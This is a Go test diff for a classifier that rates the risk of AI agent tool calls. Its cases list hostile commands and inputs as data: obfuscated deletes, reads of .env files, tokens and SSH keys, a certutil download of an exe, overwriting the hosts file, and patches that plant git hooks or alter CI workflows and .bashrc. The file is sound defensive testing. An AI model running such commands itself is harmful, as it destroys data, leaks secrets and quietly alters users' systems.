@@ -160,6 +160,39 @@ func TestInputs(t *testing.T) {
 		{"bash", `{"command":"ls","cwd":"/etc"}`, "medium", "outside", ""}, {"bash", `{"command":"ls","cwd":"/w/sub"}`, "low", "", ""},
 		{"bash", `{"command":"ls","env":{"PATH":"/x"}}`, "high", "opaque", ""}, {"bash", `{"command":"ls","cmd":"ls"}`, "high", "opaque", ""},
 		{"powershell", `{"command":"Get-ChildItem"}`, "medium", "not_read", ""},
+		{"powershell", `{"command":"Stop-Computer"}`, "high", "raises", ""}, {"pwsh", `{"command":"New-LocalUser x"}`, "high", "raises", ""},
+		{"pwsh", `{"command":"Register-ScheduledTask x"}`, "high", "raises", ""}, {"cmd", `{"command":"r^d /s /q x"}`, "high", "destroys", ""},
+		{"pwsh", "{\"command\":\"R`emove-Item x\"}", "high", "destroys", ""}, {"pwsh", `{"command":"gc .env"}`, "high", "secret", ""},
+		{"pwsh", `{"command":"Get-Content -Path:.env.local"}`, "high", "secret", ""},
+		{"pwsh", `{"command":"gc a.txt"}`, "medium", "not_read", ""},
+		{"pwsh", `{"command":"'x' | Out-File $PROFILE"}`, "high", "steers", ""}, {"pwsh", `{"command":"gci env:"}`, "high", "secret", ""},
+		{"pwsh", `{"command":"echo $env:GITHUB_TOKEN"}`, "high", "secret", ""}, {"pwsh", `{"command":"$env:PATH"}`, "medium", "not_read", ""},
+		{"cmd", `{"command":"echo x > C:\\Windows\\System32\\drivers\\etc\\hosts"}`, "high", "system", ""},
+		{"cmd", `{"command":"certutil -urlcache -f https://x.example/a.exe a.exe"}`, "high", "raises", ""},
+		{"pwsh", `{"command":"Set-Content .git\\hooks\\pre-commit x"}`, "high", "steers", ""},
+		{"pwsh", `{"command":"gc .github\\workflows\\ci.yml"}`, "medium", "not_read", ""},
+
+		// Patches name their files inside.
+		{"apply_patch", `{"input":"*** Begin Patch\n*** Update File: .github/workflows/ci.yml\n@@\n-a\n+b\n*** End Patch"}`, "high", "steers", "/input"},
+		{"apply_patch", `{"patch":"*** Begin Patch\n*** Update File: a\n*** Move to: .git/hooks/pre-commit\n+x\n*** End Patch"}`, "high", "steers", "/patch"},
+		{"apply_patch", `{"input":"*** Begin Patch\n*** Delete File: .env\n*** End Patch"}`, "high", "secret", "/input"},
+		{"shell", `{"command":["apply_patch","*** Begin Patch\n*** Update File: .github/workflows/ci.yml\n+b\n*** End Patch"]}`, "high", "steers", ""},
+		{"edit", `{"diff":"--- a/x\n+++ b/.bashrc\n@@ -1 +1 @@\n-a\n+b\n"}`, "high", "steers", "/diff"},
+		{"git_apply", `{"content":"--- /dev/null\n+++ b/.git/hooks/a\n@@ -0,0 +1 @@\n+b\n"}`, "high", "steers", "/content"},
+		{"edit", `{"diff":"diff --git a/x b/.husky/y\nsimilarity index 100%\nrename from x\nrename to .husky/y\n"}`, "high", "steers", "/diff"},
+		{"apply_patch", `{"input":"*** Begin Patch\n*** Update File: a.go\n+see .github/workflows/ci.yml\n*** End Patch"}`, "medium", "unknown_tool", ""},
+		{"write_file", `{"path":"a.md","content":"--- a/.bashrc\n+++ b/.bashrc\n@@"}`, "medium", "unknown_tool", ""},
+		{"show_diff", `{"diff":"--- a/.bashrc\n+++ b/.bashrc\n@@"}`, "medium", "unknown_tool", ""},
+
+		// Keys by what stands before them, and paths in other spellings.
+		{"write_file", `{"path":"a","content":"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzKEY"}`, "high", "key_value", "/content"},
+		{"write_file", `{"path":"a","content":"\"secretAccessKey\": \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzKEY\""}`, "high", "key_value", "/content"},
+		{"write_file", `{"path":"a","content":"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG+bPxRfiCYzzzzzzzKEY\n"}`, "high", "key_value", "/content"},
+		{"write_file", `{"path":"a","content":"AWS_SECRET_ACCESS_KEY=${{ secrets.AWS_SECRET_ACCESS_KEY }}"}`, "medium", "unknown_tool", ""},
+		{"write_file", `{"path":"a","content":"PuTTY-User-Key-File-3: ssh-ed25519"}`, "high", "key_value", "/content"},
+		{"read_file", `{"path":".env "}`, "high", "secret", "/path"}, {"read_file", `{"path":".env/."}`, "high", "secret", "/path"},
+		{"read_file", `{"path":"%2e%65nv"}`, "high", "secret", "/path"}, {"read_file", `{"path":"deploy_key"}`, "high", "secret", "/path"},
+		{"x", `{"field":"deploy_key"}`, "medium", "unknown_tool", ""}, {"x", `{"resource":"kubeconfig"}`, "medium", "unknown_tool", ""},
 		{"powershell", `{"command":"Remove-Item -Recurse a"}`, "high", "destroys", ""},
 	} {
 		level, reasons := risk.Judge(risk.Call{Tool: tt.tool, Cwd: "/w", Input: json.RawMessage(tt.input)})
@@ -242,7 +275,9 @@ func FuzzLine(f *testing.F) {
 func TestHostileLines(t *testing.T) {
 	for _, unit := range []string{"a ", "a;", "rm -rf .env;", "cat ~/.ssh/id_rsa;", "a=b@c:d,", "http://a@b.c/ ", "$(ls);", "sk-", "eyJ.", "é",
 		"/../", ".env*",
-		"a|", "'a' ", "x://a:b@", "-----BEGIN ", "find . -exec rm {} + ;", "sudo ", "python -c 'rm -rf a';"} {
+		"a|", "'a' ", "x://a:b@", "-----BEGIN ", "find . -exec rm {} + ;", "sudo ", "python -c 'rm -rf a';", "x=$TOKEN;",
+		"echo ${TOKEN ", "cat <<E\n$TOKEN\nE\n", "for x in $TOKEN;", "[[ $TOKEN =~ $_", "read a <<< $TOKEN;", "patch <<E\n+++ .env\nE\n",
+		"aws_secret_access_key="} {
 		text := strings.Repeat(unit, shell.MaxText/len(unit))
 		input := inputOf(text)
 		start := cputime.Now()
@@ -251,6 +286,18 @@ func TestHostileLines(t *testing.T) {
 		t.Logf("%q: %v", unit, took)
 		if took.Milliseconds() > 2000 {
 			t.Errorf("%q: %v", unit, took)
+		}
+	}
+}
+
+// TestHostilePatches: much of what a patch may have, which names one file that steers others at its end.
+func TestHostilePatches(t *testing.T) {
+	for unit, most := range map[string]int{"+++ a\n": 100_000, "--- .env\n+++ .env\n": 50_000, "*** Add File: b\n+x\n": 5_000, "\n": 1 << 20} {
+		input, _ := json.Marshal(map[string]string{"patch": "*** Begin Patch\n" + strings.Repeat(unit, most) + "*** Add File: .git/hooks/a\n"})
+		start := cputime.Now()
+		level, _ := risk.Judge(risk.Call{Tool: "apply_patch", Cwd: "/w", Input: input})
+		if took := cputime.Since(start); level != permission.RiskHigh || took.Milliseconds() > 2000 {
+			t.Errorf("%q: %s, %v", unit, level, took)
 		}
 	}
 }
